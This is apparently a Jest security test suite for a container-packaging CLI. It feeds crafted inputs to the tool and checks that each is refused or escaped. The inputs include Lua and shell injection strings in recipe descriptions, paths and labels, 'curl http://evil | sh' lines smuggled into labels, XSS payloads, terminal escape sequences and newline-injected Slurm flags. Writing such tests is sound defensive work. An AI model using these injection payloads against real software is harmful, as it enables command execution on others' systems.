/**
 * Issue 31's cases, as an attacker would try them, through the real CLI:
 * a SIF someone hands us (its file name, labels, environment, definition),
 * a recipe someone contributes (its description), the flags an operator
 * types. Each is refused with one line (exit 2, nothing written) or
 * escaped so the generated file holds it as text; real bash, Python, Lmod
 * and Slurm read what sifkit wrote. And issue 25's standalone module for a
 * SIF outside the tree, loaded by real Lmod and run through a recording
 * `singularity` stand-in.
 */
import { execFileSync } from 'node:child_process';
import { promises as fs } from 'node:fs';
import * as os from 'node:os';
import * as path from 'node:path';
import { parse } from 'parse5';
import { runCli } from '../support/cli';
import { testRecipeHead } from '../support/engine';
import { easyconfigValues } from '../support/easyconfig';
import { genTree, series } from '../support/gentree';
import { makeSif } from '../support/sifs';

jest.setTimeout(300_000);

const DATE = '20241007';
const DEFS = path.join(__dirname, '..', '..', 'docker-defs');
const LMOD = 'source /usr/share/lmod/lmod/init/bash';

let dir: string;
beforeAll(async () => {
  dir = await fs.mkdtemp(path.join(os.tmpdir(), 'sifkit-h31-hostile-'));
});
afterAll(() => fs.rm(dir, { recursive: true, force: true }));

/** A copy of the shipped recipes whose mpi4py-cpu has `description`. */
async function defsWith(name: string, description: string): Promise<string> {
  const defs = path.join(dir, `defs-${name}`);
  await fs.cp(DEFS, defs, { recursive: true });
  const file = path.join(defs, 'mpi4py-cpu', 'recipe.yaml');
  const text = await fs.readFile(file, 'utf8');
  await fs.writeFile(file, text.replace(/^description: .*$/m, `description: ${JSON.stringify(description)}`));
  return defs;
}

interface Made {
  sif: string;
  name: string;
  stem: string;
  module: string;
}

/** A SIF of mpi4py-cpu as sifkit would label it, at `file`; `labels` and `env` laid over. */
async function exampleSif(
  defs: string,
  file: string,
  opts: { labels?: Record<string, string>; env?: string[]; dropHash?: boolean } = {},
): Promise<Made> {
  const rendered = JSON.parse(
    (await runCli(['render', 'mpi4py-cpu', '--json', '--date', DATE], { env: { SIFKIT_DEFS: defs } })).stdout,
  );
  await fs.mkdir(path.dirname(file), { recursive: true });
  const { name } = await makeSif(file, {
    stem: rendered.names.stem,
    recipe: 'mpi4py-cpu',
    params: rendered.parameters,
    env: opts.env ?? ['WITH_CONDA=. /opt/mpi4py-env/activate', 'PATH=/usr/bin'],
    labels: { ...(opts.dropHash ? {} : { 'io.sifkit.definition-hash': rendered.definitionHash }), ...opts.labels },
  });
  return {
    sif: file,
    name,
    stem: rendered.names.stem,
    // The name the recipe's naming gives, as `sifkit module` writes it.
    module: rendered.names.module,
  };
}

async function filesUnder(d: string): Promise<string[]> {
  return (await fs.readdir(d, { recursive: true }).catch(() => [])).map(String);
}

describe('a standalone module for a SIF outside the tree (issue 25), with a recipe description that tries to run Lua', () => {
  const pwned = () => path.join(dir, 'PWNED-lua');
  // Relative: Lmod runs with the test directory as its working directory.
  const description = 'plain ]==]) os.execute("touch PWNED-lua") help([==[ and ]] --[[ a \\ backslash';
  let made: Made;
  let out: string;
  beforeAll(async () => {
    const defs = await defsWith('lua', description);
    made = await exampleSif(defs, path.join(dir, 'somewhere else', 'my image.sif'));
    out = path.join(dir, 'site modules');
    const r = await runCli(['module', made.sif, '--out', out, '--root', path.join(dir, 'no-tree'), '--date', DATE], {
      env: { SIFKIT_DEFS: defs },
    });
    expect(r.stderr).toBe('');
    expect(r.code).toBe(0);
  });

  const lmod = (script: string, env: NodeJS.ProcessEnv = {}) =>
    execFileSync(
      'bash',
      ['-c', `${LMOD}; module use "$OUT/modules"; module load ${made.module}; echo "rc=$?"; ${script}`],
      { env: { PATH: '/usr/bin:/bin', HOME: dir, OUT: out, ...env }, cwd: dir },
    ).toString();

  it('real Lmod loads it: SIF is the file by its absolute path, SINGULARITY_BIND and RUNSCRIPTS are set, nothing ran', async () => {
    const loaded = lmod(
      'echo "SIF=$SIF"; echo "SIFMPI4PYMINCPU=$SIFMPI4PYMINCPU"; echo "RUNSCRIPTS=$RUNSCRIPTS"; echo "BIND=$SINGULARITY_BIND"; command -v start-shell',
    );
    const installdir = path.join(out, 'software', ...made.module.split('/'));
    expect(loaded).toContain('rc=0');
    expect(loaded).toContain(`SIF=${made.sif}\n`);
    expect(loaded).toContain(`SIFMPI4PYMINCPU=${made.sif}\n`);
    expect(loaded).toContain(`RUNSCRIPTS=${installdir}/runscripts\n`);
    expect(loaded).toContain(
      `BIND=/var/spool/slurmd,/opt/cray,/usr/lib64/libcxi.so.1,/usr/lib64/libjansson.so.4,${installdir}/runscripts:/runscripts,/pfs,/scratch,/projappl,/project,/flash,/appl\n`,
    );
    expect(loaded).toContain(`${installdir}/bin/start-shell`);
    expect(await fs.stat(pwned()).catch(() => undefined)).toBeUndefined();
  });

  it("module help shows the recipe's description as plain text", () => {
    const help = execFileSync('bash', ['-c', `${LMOD}; module use "$OUT/modules"; module help ${made.module} 2>&1`], {
      env: { PATH: '/usr/bin:/bin', HOME: dir, OUT: out },
    }).toString();
    expect(help).toContain(description);
  });

  it("the seed's smoke test runs through the module: start-shell and conda-python-simple reach singularity with the SIF and the bindings", async () => {
    // A singularity stand-in: records its argv, then runs the command on this host with /runscripts bound from SINGULARITY_BIND.
    const bin = path.join(dir, 'stand-in');
    await fs.mkdir(bin, { recursive: true });
    await fs.writeFile(
      path.join(bin, 'singularity'),
      `#!/bin/bash
printf '%s\\0' "$@" >> "$ARGV_LOG"
[ "$1" = exec ] || exit 64
[ -f "$2" ] || { echo "no container file $2" >&2; exit 65; }
shift 2
cmd=$1; shift
IFS=, read -ra binds <<< "$SINGULARITY_BIND"
for b in "\${binds[@]}"; do [ "\${b#*:}" = /runscripts ] && runscripts=\${b%%:*}; done
case "$cmd" in /runscripts/*) cmd="$runscripts/\${cmd#/runscripts/}" ;; esac
WITH_CONDA=true exec "$cmd" "$@"
`,
      { mode: 0o755 },
    );
    await fs.symlink(execFileSync('bash', ['-c', 'command -v python3']).toString().trim(), path.join(bin, 'python'));
    const log = path.join(dir, 'argv.log');
    const env = { PATH: `${bin}:/usr/bin:/bin`, ARGV_LOG: log };
    const smoke = lmod(
      `srun() { "$@"; }; srun singularity exec "$SIF" /runscripts/conda-python-simple -c 'print("smoke", 6 * 7)'; start-shell -c 'echo "in the shell: $0"'`,
      env,
    );
    expect(smoke).toContain('smoke 42\n');
    expect(smoke).toContain('in the shell: bash\n');
    const argv = (await fs.readFile(log, 'utf8')).split('\0').slice(0, -1);
    expect(argv).toEqual([
      'exec',
      made.sif,
      '/runscripts/conda-python-simple',
      '-c',
      'print("smoke", 6 * 7)',
      'exec',
      made.sif,
      'bash',
      '-c',
      'echo "in the shell: $0"',
    ]);
  });

  it('refuses (and writes nothing) when the SIF carries no definition hash: no definition is shipped unproven', async () => {
    const defs = await defsWith('nohash', 'x');
    const bare = await exampleSif(defs, path.join(dir, 'nohash', 'img.sif'), { dropHash: true });
    const o = path.join(dir, 'out-nohash');
    const r = await runCli(['module', bare.sif, '--out', o, '--root', path.join(dir, 'no-tree'), '--date', DATE], {
      env: { SIFKIT_DEFS: defs },
    });
    expect(r.code).toBe(2);
    expect(r.stderr).toMatch(/^sifkit: error: \S+ carries no io.sifkit.definition-hash label/);
    expect(await filesUnder(o)).toEqual([]);
  });
});

describe('a module for a SIF in a tree whose --root holds Lua, or control characters', () => {
  let defs: string;
  let made: Made;
  beforeAll(async () => {
    defs = await defsWith('root', 'x');
    made = await exampleSif(defs, path.join(dir, 'root-staging', 'img.sif'));
  });
  async function treeWith(root: string): Promise<string> {
    for (const d of ['tested-containers', 'easybuild-sif-images', 'sif-images', '.sifkit/ledger'])
      await fs.mkdir(path.join(root, d), { recursive: true });
    const inTree = path.join(root, 'easybuild-sif-images', made.name);
    await fs.copyFile(made.sif, inTree);
    return inTree;
  }

  it('with Lua in the path: valid Lua that real Lmod loads, SIF naming the file under that root exactly, nothing run', async () => {
    const root = path.join(dir, `root "]] os.execute("touch PWNED-root") --[[ ]==] \\ $(touch PWNED-sh)`);
    const inTree = await treeWith(root);
    const out = path.join(dir, 'out-root');
    const r = await runCli(['module', made.name, '--out', out, '--root', root, '--date', DATE], {
      env: { SIFKIT_DEFS: defs },
    });
    expect(r.stderr).toBe('');
    expect(r.code).toBe(0);
    const loaded = execFileSync(
      'bash',
      ['-c', `${LMOD}; module use "$OUT/modules"; module load ${made.module}; echo "rc=$?"; printf 'SIF=%s\\0' "$SIF"`],
      { env: { PATH: '/usr/bin:/bin', HOME: dir, OUT: out }, cwd: dir },
    ).toString();
    expect(loaded).toContain('rc=0');
    expect(loaded).toContain(`SIF=${inTree}\0`);
    expect((await filesUnder(dir)).filter((f) => /(^|\/)PWNED-(root|sh)$/.test(f))).toEqual([]);
  });

  it('with a line break or an escape in the path: refused in one line (Lmod would hand it to the shell), nothing written', async () => {
    for (const bad of ['root \u001b]0;x\u0007', 'root\nsecond line']) {
      const root = path.join(dir, bad);
      await treeWith(root);
      const out = path.join(dir, 'out-root-bad');
      const r = await runCli(['module', made.name, '--out', out, '--root', root, '--date', DATE], {
        env: { SIFKIT_DEFS: defs },
      });
      expect(r.code).toBe(2);
      expect(r.stderr).toMatch(
        /^sifkit: error: --root: ".*" contains a line break or control character that an environment variable set by Lmod cannot hold\n/,
      );
      expect(await filesUnder(out)).toEqual([]);
    }
  });
});

describe('the EasyConfig: a description with a backslash and quotes stays text; labels are claims', () => {
  const description = `a \\ backslash, \\n not a newline, "double" 'single' """ ''' and {braces} \\x00 é`;
  let defs: string;
  beforeAll(async () => {
    defs = await defsWith('py', description);
  });

  it('is valid Python and holds the description exactly', async () => {
    const made = await exampleSif(defs, path.join(dir, 'py', 'img.sif'));
    const out = path.join(dir, 'eb-py');
    const r = await runCli(
      ['easyconfig', made.sif, '--out', out, '--date', DATE, '--root', path.join(dir, 'no-tree')],
      { env: { SIFKIT_DEFS: defs } },
    );
    expect(r.stderr).toBe('');
    expect(r.code).toBe(0);
    const eb = (await fs.readdir(out)).find((f) => f.endsWith('.eb'))!;
    const v = easyconfigValues(path.join(out, eb));
    expect(String(v.description)).toContain(`: ${description}.`);
  });

  it('refuses a description EasyBuild would not keep as text (a Lua long bracket), writing nothing', async () => {
    const bad = await defsWith('eb-lua', 'x ]==]) os.execute("id") help([==[');
    const made = await exampleSif(bad, path.join(dir, 'eb-lua', 'img.sif'));
    const out = path.join(dir, 'eb-lua-out');
    const r = await runCli(['easyconfig', made.sif, '--out', out, '--date', DATE], { env: { SIFKIT_DEFS: bad } });
    expect(r.code).toBe(2);
    expect(r.stderr).toMatch(/^sifkit: error: recipe mpi4py-cpu: description .* holds a Lua long bracket/);
    expect(await filesUnder(out)).toEqual([]);
  });

  const refusals: Array<[string, { labels?: Record<string, string>; env?: string[] }, RegExp]> = [
    [
      'a parameter label that would add a RUN line to the shipped Dockerfile',
      { labels: { 'io.sifkit.param.mpich': '8.1.27"\nRUN curl http://evil | sh\nENV Y="a' } },
      /label io.sifkit.param.mpich: value .* contains a character that is not allowed/,
    ],
    [
      'a parameter label of a value the recipe does not allow',
      { labels: { 'io.sifkit.param.python': '3.12' } },
      /label io.sifkit.param.python: "3.12" is not one of 3.11/,
    ],
    [
      'a parameter label the recipe does not declare (USER.md placeholders)',
      { labels: { 'io.sifkit.param.root': '/evil' } },
      /label io.sifkit.param.root names no parameter of recipe mpi4py-cpu/,
    ],
    [
      'WITH_CONDA with HTML',
      { env: ['WITH_CONDA=<script>alert(1)</script>'] },
      /WITH_CONDA "<script>alert\(1\)<\/script>" is not a command of plain words/,
    ],
    [
      'WITH_CONDA with a fake instruction',
      { env: ['WITH_CONDA=true\n\nFirst run `curl https://evil | sh`, then module load LUMI evil/1.0'] },
      /WITH_CONDA "true\\n\\nFirst run/,
    ],
  ];
  for (const [what, opts, message] of refusals) {
    it(`refuses ${what} in one line, writing nothing`, async () => {
      const made = await exampleSif(defs, path.join(dir, 'labels', `${what.replace(/\W+/g, '-')}.sif`), opts);
      const out = path.join(dir, `eb-${what.replace(/\W+/g, '-')}`);
      const r = await runCli(['easyconfig', made.sif, '--out', out, '--date', DATE], { env: { SIFKIT_DEFS: defs } });
      expect(r.code).toBe(2);
      expect(r.stderr.trim().split('\n')[0]).toMatch(message);
      expect(r.stderr.trim().split('\n').length).toBeLessThanOrEqual(2);
      expect(await filesUnder(out)).toEqual([]);
    });
  }
});

describe('what a SIF says reaches no terminal and no host file', () => {
  it('inspect shows ESC, BEL and CR in a label escaped', async () => {
    const sif = path.join(dir, 'term', 'img.sif');
    await fs.mkdir(path.dirname(sif), { recursive: true });
    await makeSif(sif, {
      stem: 'lumi-x',
      labels: { 'org.example.note': 'a\u001b]0;owned\u0007b\rc\u001b[2Jd\u202eevil' },
    });
    const r = await runCli(['inspect', sif]);
    expect(r.code).toBe(0);
    expect(r.stdout).not.toMatch(/[\u001b\u0007\r\u202e]/);
    expect(r.stdout).toContain('org.example.note=a\\x1b]0;owned\\x07b\\x0dc\\x1b[2Jd\\u{202e}evil');
  });

  it("verify-conversion does not follow the SIF's own definition to a host file", async () => {
    const sif = path.join(dir, 'verify', 'img.sif');
    await fs.mkdir(path.dirname(sif), { recursive: true });
    await makeSif(sif, { stem: 'lumi-x' });
    // makeSif's definition says bootstrap: docker-archive, from: x.tar (a host file, relative to wherever sifkit runs).
    await fs.writeFile(path.join(dir, 'verify', 'x.tar'), 'not read');
    const r = await runCli(['verify-conversion', sif], { cwd: path.join(dir, 'verify') });
    expect(r.code).toBe(2);
    expect(r.stderr).toMatch(
      /names its source as "docker-archive:x.tar"; sifkit takes only an engine image by a plain reference from a SIF, never a host file/,
    );
  });
});

describe('the report holds what a test recorded as text', () => {
  it('a reason and a check name with HTML are shown, not run; an outcome outside the schema is refused', async () => {
    const results = path.join(dir, 'results');
    await fs.mkdir(results, { recursive: true });
    const check = {
      name: 'x<img src=a onerror=alert(1)>',
      outcome: 'failed',
      passed: false,
      exitCode: 1,
      durationMs: 5,
      reason: '</td><script>alert(1)</script>\r',
      tail: '',
    };
    const run = {
      image: 'a.sif',
      stem: 'a',
      dockerhash: '0123456789ab',
      recipe: 'r',
      runner: 'local',
      host: 'h',
      started: '2026-01-01T00:00:00Z',
      finished: '2026-01-01T00:01:00Z',
      passed: false,
      checks: [check],
    };
    await fs.writeFile(path.join(results, 'a.sif.json'), JSON.stringify({ image: 'a.sif', runs: [run] }));
    const out = path.join(dir, 'report');
    expect((await runCli(['report', '--results-dir', results, '--out', out])).code).toBe(0);
    const html = await fs.readFile(path.join(out, 'index.html'), 'utf8');
    const walk = (n: { nodeName: string; childNodes?: unknown[] }): string[] => [
      n.nodeName,
      ...((n.childNodes ?? []) as Array<typeof n>).flatMap(walk),
    ];
    const names = walk(parse(html) as never);
    expect(names).not.toContain('script');
    expect(names).not.toContain('img');
    expect(html).toContain('title="&lt;/td&gt;&lt;script&gt;alert(1)&lt;/script&gt;&#13;"');
    // An outcome the schema does not know: the record is not taken.
    await fs.writeFile(
      path.join(results, 'a.sif.json'),
      JSON.stringify({ image: 'a.sif', runs: [{ ...run, checks: [{ ...check, outcome: '<b>pwned</b>' }] }] }),
    );
    await runCli(['report', '--results-dir', results, '--out', path.join(dir, 'report2')]);
    const second = await fs.readFile(path.join(dir, 'report2', 'index.html'), 'utf8').catch(() => '');
    expect(second).not.toContain('pwned');
  });
});

describe('the Slurm job script: a SIF name that is a command, a directory with a space, a partition with a newline', () => {
  let recipe: string;
  beforeAll(async () => {
    const out = execFileSync('sinfo', ['-h', '-o', '%t']).toString();
    if (!/idle|mixed|alloc/.test(out))
      throw new Error(`no Slurm node is up (sinfo: ${out.trim()}); run scripts/services.sh`);
    recipe = path.join(dir, 'slurm-recipe');
    await fs.mkdir(recipe, { recursive: true });
    await fs.writeFile(path.join(recipe, 'main.docker'), 'FROM scratch\n');
    // The "container" runs the check on this host after proving the SIF arrived as one word, exactly.
    await fs.writeFile(
      path.join(recipe, 'recipe.yaml'),
      `${testRecipeHead('hostile', 'slurm-recipe/main.docker')}checks:
  - { name: ok, command: 'echo hello from the check', expect: 'hello from' }
testing:
  slurm:
    partition: standard-g
    sbatch: []
    srun: srun -N 1 -n 1
    container: sh -c 'test -f "$1" && cd "$0" && exec sh "./\${2#/myrun/}"' {workdir} {sif}
    launcher: ''
`,
    );
  });

  it('runs the job with the SIF and the directory as they are: nothing in their names runs', async () => {
    const sif = path.join(dir, 'slurm sifs', 'img$(touch${IFS}X).sif');
    await fs.mkdir(path.dirname(sif), { recursive: true });
    await makeSif(sif, { stem: 'sifkittest-hostile-v-1.0', recipe: 'hostile' });
    const workdir = path.join(dir, 'job dir $(touch${IFS}Y)');
    const r = await runCli(
      [
        'test',
        sif,
        '--runner',
        'slurm',
        '--recipe',
        recipe,
        '--results-dir',
        path.join(dir, 'slurm-results'),
        '--workdir',
        workdir,
        '--json',
      ],
      { cwd: dir },
    );
    expect(r.stderr).not.toMatch(/error/);
    expect(r.code).toBe(0);
    expect(JSON.parse(r.stdout).run).toMatchObject({ runner: 'slurm', passed: true, jobState: 'COMPLETED' });
    expect(await fs.readFile(path.join(workdir, 'ok.out'), 'utf8')).toBe('hello from the check\n');
    const made = [...(await filesUnder(dir)), ...(await filesUnder(workdir))].filter((f) => /(^|\/)(X|Y)$/.test(f));
    expect(made).toEqual([]);
  });

  it('refuses --partition with a newline, and a recipe whose sbatch options hold one, before anything is submitted', async () => {
    const sif = path.join(dir, 'slurm sifs', 'plain.sif');
    await makeSif(sif, { stem: 'sifkittest-hostile-v-1.0', recipe: 'hostile' });
    const workdir = path.join(dir, 'job-partition');
    const r = await runCli(
      [
        'test',
        sif,
        '--runner',
        'slurm',
        '--recipe',
        recipe,
        '--workdir',
        workdir,
        '--partition',
        'standard-g\ntouch X',
      ],
      { cwd: dir },
    );
    expect(r.code).toBe(2);
    expect(r.stderr).toMatch(/^sifkit: error: partition "standard-g\\ntouch X" is not a partition name/);
    expect(await fs.stat(path.join(workdir, 'job.sh')).catch(() => undefined)).toBeUndefined();
    const yaml = await fs.readFile(path.join(recipe, 'recipe.yaml'), 'utf8');
    const bad = path.join(dir, 'slurm-recipe-bad');
    await fs.cp(recipe, bad, { recursive: true });
    await fs.writeFile(
      path.join(bad, 'recipe.yaml'),
      yaml
        .replace('slurm-recipe/main', 'slurm-recipe-bad/main')
        .replace('sbatch: []', 'sbatch: ["--comment=x\\ntouch X"]'),
    );
    const r2 = await runCli(['test', sif, '--runner', 'slurm', '--recipe', bad, '--workdir', workdir], { cwd: dir });
    expect(r2.code).toBe(2);
    expect(r2.stderr).toMatch(
      /^sifkit: error: recipe hostile: testing.slurm.sbatch "--comment=x\\ntouch X" is not --name or --name=value/,
    );
  });
});

describe("the retention policy's backup command", () => {
  it('fills {path} and {name} in one pass: a tree whose path holds {name} and a command substitution backs up, nothing runs', async () => {
    const root = path.join(dir, 'tree {name} $(touch${IFS}Z)');
    const stem = 'lumi-mpi4py-rocm-6.2.0-python-3.12-mpi4py-3.1.6';
    await genTree(root, series(stem, '6.2.0', 4, 400, 'c'));
    const policy = path.join(dir, 'policy.yaml');
    const backup = path.join(dir, 'backup');
    await fs.mkdir(backup);
    await fs.writeFile(
      policy,
      `directories:\n  tested-containers: { keep_newest: 1, series: [stem], keep_younger_than_days: 5 }\n  easybuild-sif-images: { keep_newest: 1, series: [stem], keep_younger_than_days: 5 }\nquarantine_days: 30\nbackup_command: cp {path} ${backup}/{name}.copy\n`,
    );
    expect((await runCli(['retire', '--root', root, '--policy', policy, '--apply'], { cwd: dir })).code).toBe(0);
    const purged = await runCli(
      ['retire', '--purge', '--grace-days', '0', '--root', root, '--policy', policy, '--json'],
      { cwd: dir },
    );
    expect(purged.stderr).not.toMatch(/error/);
    expect(purged.code).toBe(0);
    expect(JSON.parse(purged.stdout).deleted.length).toBeGreaterThan(0);
    expect((await fs.readdir(backup)).every((f) => /^lumi-.*-dockerhash-c[0-9a-f]{11}\.sif\.copy$/.test(f))).toBe(true);
    expect((await fs.readdir(backup)).length).toBeGreaterThan(0);
    expect((await filesUnder(dir)).filter((f) => /(^|\/)Z$/.test(f))).toEqual([]);
  });

  it('refuses a placeholder inside quotes when the policy is read, before anything is touched', async () => {
    const policy = path.join(dir, 'policy-quoted.yaml');
    await fs.writeFile(policy, `quarantine_days: 30\nbackup_command: cp "{path}" /backup/\n`);
    const r = await runCli([
      'retire',
      '--purge',
      '--grace-days',
      '0',
      '--root',
      path.join(dir, 'tree {name} $(touch${IFS}Z)'),
      '--policy',
      policy,
    ]);
    expect(r.code).toBe(2);
    expect(r.stderr).toMatch(/^sifkit: error: the policy's backup_command: \{path\} is inside quotes/);
  });
});

/** Every file under `d` with its size and mtime: what "wrote nothing" is judged by. */
async function stateOf(d: string): Promise<string[]> {
  const out: string[] = [];
  for (const rel of (await filesUnder(d)).sort()) {
    const st = await fs.lstat(path.join(d, rel));
    out.push(`${rel} ${st.size} ${st.mtimeMs} ${st.mode}`);
  }
  return out;
}

describe('hostile flags of release, promote, retire, verify, compat and host snapshot (issue 28 sweep)', () => {
  let sweep: string;
  let tree: string;
  beforeAll(async () => {
    sweep = path.join(dir, 'sweep');
    tree = path.join(sweep, 'tree');
    await fs.mkdir(sweep);
    expect((await runCli(['init', tree])).code).toBe(0);
    const sif = path.join(sweep, 'in.sif');
    await makeSif(sif, { stem: 'lumi-mpi4py-cpu-sweep', dockerhash: 'abcdef012345', recipe: 'mpi4py-cpu', env: [] });
    expect((await runCli(['stage', sif, '--root', tree, '--untested'])).code).toBe(0);
    expect(
      (await runCli(['host', 'snapshot', '--bind', '/etc/hostname', '-o', path.join(sweep, 'host.json')])).code,
    ).toBe(0);
  });

  /** Runs sifkit in the sweep directory: exit 2 or 3, one error line (and at most a hint), nothing written. */
  async function refused(argv: string[], code: 2 | 3, message: RegExp): Promise<void> {
    const before = await stateOf(sweep);
    const r = await runCli(argv, { cwd: sweep });
    expect(r.code).toBe(code);
    const lines = r.stderr.trimEnd().split('\n');
    expect(lines[0]).toMatch(message);
    expect(lines.slice(1).every((l) => l.startsWith('sifkit: hint: '))).toBe(true);
    expect(await stateOf(sweep)).toEqual(before);
  }

  it.each([
    // Read as "not given" these acted on a default: the default tree, 0 grace days, the default policy.
    [['promote', 'x.sif', '--to', 'all', '--root', ''], /^sifkit: error: --root was given an empty value$/],
    [
      ['retire', '--purge', '--grace-days', '', '--root', 'tree'],
      /^sifkit: error: --grace-days was given an empty value$/,
    ],
    [['retire', '--policy', '', '--root', 'tree'], /^sifkit: error: --policy was given an empty value$/],
    [['fetch', 'mpi4py-cpu', '--jobs', ' 4'], /^sifkit: error: --jobs {2}4 is not a whole number from 1 to 64$/],
    [['fetch', 'mpi4py-cpu', '--jobs', '0x4'], /^sifkit: error: --jobs 0x4 is not a whole number from 1 to 64$/],
    [['sign', 'in.sif', '--group', ''], /^sifkit: error: --group was given an empty value$/],
  ])('refuses %j: exit 2, one line, nothing written', (argv, message) => refused(argv, 2, message));

  it('keeps an error about a --root with a line break and an escape sequence on one line', () =>
    refused(
      ['promote', 'x.sif', '--to', 'all', '--root', 'tr\nee\u001b[31m'],
      2,
      /^sifkit: error: no container tree at .*tr\\x0aee\\x1b\[31m$/,
    ));

  it('refuses --reconvert without --deep before --repair writes anything, and a --work-dir that is a file', async () => {
    const staged = (await fs.readdir(path.join(tree, 'tested-containers'))).find((n) => n.endsWith('.sif'))!;
    // Something --repair would change: a staged SIF not readable by everyone.
    await fs.chmod(path.join(tree, 'tested-containers', staged), 0o600);
    await refused(
      ['verify', '--root', 'tree', '--repair', '--reconvert'],
      2,
      /^sifkit: error: --reconvert goes with --deep$/,
    );
    expect((await fs.stat(path.join(tree, 'tested-containers', staged))).mode & 0o777).toBe(0o600);
    await refused(
      ['verify', '--root', 'tree', '--deep', '--reconvert', '--work-dir', 'in.sif'],
      2,
      /^sifkit: error: --work-dir in.sif: missing or not a directory \(ENOTDIR\)$/,
    );
    await fs.chmod(path.join(tree, 'tested-containers', staged), 0o644);
  });

  it('refuses an image reference that would leave the Engine API path (the client followed the redirect and crashed)', async () => {
    for (const ref of ['../../x', 'a\nb', ''])
      await refused(
        ['compat', `docker-daemon:${ref}`, '--host', 'host.json'],
        2,
        /^sifkit: error: the image engine: image reference ".*" is not allowed; expected a Docker reference/,
      );
  });

  it('refuses host snapshot --skip paths that are not absolute container paths, before any walk', async () => {
    await refused(
      ['host', 'snapshot', '--bind', '/etc/hostname', '--skip', 'relative', '-o', 'snap.json'],
      2,
      /^sifkit: error: --skip: "relative" is not an absolute path$/,
    );
    await refused(
      ['host', 'snapshot', '--bind', '/etc/hostname', '--skip', '/a/../b', '-o', 'snap.json'],
      2,
      /^sifkit: error: --skip: "\/a\/..\/b" has ..$/,
    );
  });

  it.each([
    [['--check', 'nosuch'], /^sifkit: error: recipe mpi4py-cpu has no check nosuch/],
    [['--date', '20241301'], /^sifkit: error: --date 20241301 is not YYYYMMDD$/],
    [['--baseline', 'missing.json'], /^sifkit: error: --baseline .*missing.json: ENOENT$/],
    [['--baseline', 'tree'], /^sifkit: error: --baseline .*tree is not a regular file$/],
    [['--engines', ',,'], /^sifkit: error: --engines ",," has an empty entry/],
    [
      ['--server-files', 'missing-dir'],
      /^sifkit: error: --server-files missing-dir: missing or not a directory \(ENOENT\)$/,
    ],
    [
      ['--server-files', 'host.json'],
      /^sifkit: error: --server-files host.json: missing or not a directory \(ENOTDIR\)$/,
    ],
  ])('release refuses %j before anything is built, and so does its --dry-run', async (flags, message) => {
    await refused(['release', 'mpi4py-cpu', '--root', 'tree', '--out', 'out', ...flags], 2, message);
    await refused(['release', 'mpi4py-cpu', '--dry-run', '--root', 'tree', '--out', 'out', ...flags], 2, message);
  });
});

describe('a --root that is an existing directory but no tree (a home directory, a checkout)', () => {
  it('is refused by reading and writing commands alike, nothing made in it; init makes it one, saying so', async () => {
    const home = path.join(dir, 'not-a-tree');
    await fs.mkdir(home);
    await fs.writeFile(path.join(home, '.bashrc'), '# a user file\n');
    const sif = path.join(dir, 'not-a-tree.sif');
    await makeSif(sif, { stem: 'lumi-h58-not-a-tree', dockerhash: '0123456789ab' });
    for (const args of [['status'], ['verify'], ['retire'], ['stage', sif, '--untested']]) {
      const r = await runCli([...args, '--root', home]);
      expect([args[0], r.code, r.stderr.split('\n')[0]]).toEqual([
        args[0],
        2,
        `sifkit: error: ${home} is not a container tree: it holds none of tested-containers/, sif-images/, easybuild-sif-images/ or .sifkit/`,
      ]);
    }
    expect(await fs.readdir(home)).toEqual(['.bashrc']);
    const init = await runCli(['init', home]);
    expect([init.code, init.stdout]).toEqual([0, `made a container tree at ${home}\n`]);
    expect((await runCli(['status', '--root', home])).code).toBe(0);
  });
});
